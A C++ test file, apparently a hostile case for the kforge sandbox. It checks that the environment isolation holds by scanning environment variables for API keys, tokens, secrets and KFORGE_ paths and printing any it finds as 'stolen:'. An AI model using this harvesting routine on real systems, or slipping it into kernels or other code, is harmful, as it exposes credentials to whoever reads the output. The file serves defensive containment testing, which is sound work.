// kforge-hostile: class=environment problem=softmax expect=tolerance
// Attack: looks through its environment for API keys, tokens and kforge's own paths, prints
// what it finds (so it lands in the captured output, and from there in the database), and
// counts any find as a success. Contained: the environment was built from scratch, it finds
// nothing, it writes zeros, and no secret of the parent's is in what it printed.
#include "hostile_common.h"

#include <cstdio>
#include <cstring>
#include <string>

extern char** environ;

KF_EXPORT int kf_forward(const kf_args* a) {
  bool worked = false;
  for (char** e = environ; e && *e; ++e) {
    std::string kv = *e, name = kv.substr(0, kv.find('='));
    for (auto& c : name) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
    if (name.find("KEY") != std::string::npos || name.find("TOKEN") != std::string::npos ||
        name.find("SECRET") != std::string::npos || name.rfind("KFORGE_", 0) == 0) {
      std::printf("stolen: %s\n", kv.c_str());
      std::fprintf(stderr, "stolen: %s\n", kv.c_str());
      worked = true;
    }
  }
  std::fflush(stdout);
  return hostile::answer(a, worked);
}
